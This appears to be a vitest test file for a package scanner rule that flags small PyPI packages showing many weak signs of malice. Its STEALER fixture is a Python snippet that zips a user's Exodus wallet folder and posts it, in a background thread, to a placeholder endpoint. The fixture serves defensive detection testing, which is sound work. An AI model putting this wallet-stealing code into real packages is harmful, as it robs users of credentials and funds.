// Weak signs of little PyPI packages: many together stop one, a few or none heavy do not, and larger packages are not weighed.
import { describe, expect, it } from 'vitest'
import { suspicion } from '../../../src/scanners/content/suspicion.ts'
import { packageContents } from '../../support/package-contents.ts'

const STEALER = [
  'import os, platform, threading, zipfile',
  'def pack(name):',
  "    home = os.path.expanduser('~')",
  "    if platform.system() == 'Windows': home = os.environ.get('APPDATA')",
  "    with zipfile.ZipFile('/tmp/a.zip', 'w') as z: z.write(home + '/Exodus')",
  '    try:',
  "        import requests; requests.post(WHERE, files={'f': open('/tmp/a.zip', 'rb')})",
  '    except Exception: pass',
  "threading.Thread(target=pack, args=('x',)).start()",
].join('\n')
const CLIENT = [
  'import os, requests, time',
  "API = 'https://api.invalid/v1'",
  'def ask(question):',
  "    answer = requests.get(API, params={'q': question}, headers={'authorization': os.environ['SAMPLE_KEY']})",
  '    time.sleep(1)',
  '    return answer.json()',
].join('\n')
const PADDING = '# a remark that says nothing at all\n'.repeat(2000)

const scan = (files: Record<string, string>, type: 'pypi' | 'npm' = 'pypi') => {
  const contents = packageContents(files, { type, entryPoints: Object.keys(files) })
  const data = { rules: [], popularNames: { npm: [], pypi: [] } }
  const applies = suspicion.applies(contents, data)
  return applies === true ? suspicion.scan(contents, data, new AbortController().signal) : applies
}

describe('many weak signs in little code', () => {
  it('stop the package', () => {
    expect(scan({ 'a/__init__.py': STEALER })).toMatchObject([
      { rule: 'py-many-weak-signs', severity: 'high', reach: 'import', file: 'a/__init__.py' },
    ])
  })

  it('count over all files that run', () => {
    const lines = STEALER.split('\n')
    const files = { 'a/__init__.py': lines.slice(0, 5).join('\n'), 'a/b.py': lines.slice(5).join('\n') }
    expect(scan(files)).toHaveLength(1)
  })

  it('are not there in a client of a service', () => {
    expect(scan({ 'a/__init__.py': CLIENT })).toEqual([])
  })

  it('say nothing of a larger package, and nothing of npm', () => {
    expect(scan({ 'a/__init__.py': STEALER, 'a/b.py': PADDING })).toMatch(/too large/)
    expect(scan({ 'a/__init__.py': STEALER }, 'npm')).toMatch(/PyPI/)
  })
})
